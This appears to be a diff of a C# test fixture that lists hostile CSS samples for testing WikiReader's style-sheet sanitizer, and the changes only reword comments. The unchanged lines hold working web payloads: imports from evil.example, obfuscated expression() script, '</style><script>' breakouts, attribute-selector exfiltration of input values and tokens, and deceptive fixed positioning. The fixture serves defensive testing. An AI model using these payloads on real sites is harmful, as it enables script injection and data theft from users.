@@ -1,12 +1,12 @@
 namespace WikiReader.Tests.Articles.Styles;
 
-/// <summary>What people have tried with style sheets, by the name of the trick. Where it can be, the trick is followed by an honest rule.</summary>
+/// <summary>Known attacks with style sheets, by the name of the attack. Where possible the attack is followed by a harmless rule, which must be kept.</summary>
 internal static class HostileCss
 {
     /// <summary>Style sheets of a template.</summary>
     public static readonly Dictionary<string, string> Sheets = new(StringComparer.Ordinal)
     {
-        // What loads.
+        // Loading resources.
         ["an import"] = "@import url(//evil.example/a.css);.a{color:red}",
         ["an import of a string"] = "@import '//evil.example/a.css' screen;.a{color:red}",
         ["an import in upper case"] = "@IMPORT \"//evil.example/a.css\";.a{color:red}",
@@ -62,7 +62,7 @@ internal static class HostileCss
         ["words that load"] = ".a::before{content:url(//upload.wikimedia.org/x)}.b{color:red}",
         ["words of an attribute"] = ".a::before{content:attr(href)}.b{color:red}",
 
-        // What runs.
+        // Running script.
         ["an expression"] = ".a{width:expression(alert(1))}.b{color:red}",
         ["an expression with a comment"] = ".a{width:expr/**/ession(alert(1))}.b{color:red}",
         ["an expression with an escape"] = ".a{width:e\\78pression(alert(1))}.b{color:red}",
@@ -71,7 +71,7 @@ internal static class HostileCss
         ["a filter of old"] = ".a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.example')}.b{color:red}",
         ["a hack by a star"] = ".a{*zoom:1;_height:1px;color:red\\9}.b{color:red}",
 
-        // Selectors that try to leave the box.
+        // Selectors that try to match outside the article.
         ["the page"] = "body{display:none}.b{color:red}",
         ["the root"] = ":root{--paper:red;color:red}html{display:none}.b{color:red}",
         ["everything"] = "*{display:none}",
@@ -104,7 +104,7 @@ internal static class HostileCss
         ["a NUL in a selector"] = ".wr\0-bar{display:none}.b{color:red}",
         ["a namespace in a selector"] = "*|body{display:none}|body{display:none}.b{color:red}",
 
-        // The reader's own names.
+        // WikiReader's own class names and ids.
         ["a class of the reader"] = ".wr-bar{display:none}.mw-parser-output .wr-scroll{display:none}.b{color:red}",
         ["a class of the reader in upper case"] = ".WR-bar{display:none}.Wr-Scroll{display:none}.b{color:red}",
         ["an id of the reader"] = "#wr-main{display:none}#WR-main{display:none}.b{color:red}",
@@ -114,7 +114,7 @@ internal static class HostileCss
         ["a counter of the reader"] = ".a{counter-reset:wr-bare-link 99}.b{color:red}",
         ["a value that is looked for"] = "input[value^=a]{background:url(//evil.example/a)}a[href*=token]{background:url(//evil.example/b)}[nonce^=a]{color:red}.b{color:red}",
 
-        // What leaves the flow, or deceives.
+        // Leaving the flow, or deceiving the reader.
         ["a place in the window"] = ".a{position:fixed;top:0}.b{position:STICKY}.c{position:-webkit-sticky}.d{color:red}",
         ["a place in the window, by a property"] = ".a{--x:fixed;position:var(--x)}.b{position:var(--x,fixed)}.c{color:red}",
         ["a property of the reader"] = ".a{--paper:red;--ink:red;color:var(--paper)}.b{color:red}",
@@ -124,7 +124,7 @@ internal static class HostileCss
         ["what moves by itself"] = ".a{animation:x 1s;transition:all 9s}.b{color:red}",
         ["the environment"] = ".a{padding:env(safe-area-inset-top)}.b{color:red}",
 
-        // What ends the element, or something else.
+        // Closing the style element, or another construct.
         ["the end of the element"] = "</style><script>alert(1)</script>.b{color:red}",
         ["the end of the element in a string"] = ".a::before{content:'<\\/style><script>alert(1)<\\/script>'}.b{color:red}",
         ["the end of the element as an escape"] = ".a::before{content:'\\3c/style\\3e\\3cscript\\3e'}.b{color:red}",
@@ -151,7 +151,7 @@ internal static class HostileCss
         ["many choices in choices"] = string.Concat(Enumerable.Repeat(":not(", 500)) + ".a" + new string(')', 500) + "{color:red}.b{color:red}",
     };
 
-    /// <summary>What is made to be slow.</summary>
+    /// <summary>Style sheets that are built to be slow.</summary>
     public static readonly Dictionary<string, string> Endless = new(StringComparer.Ordinal)
     {
         ["braces"] = "{",
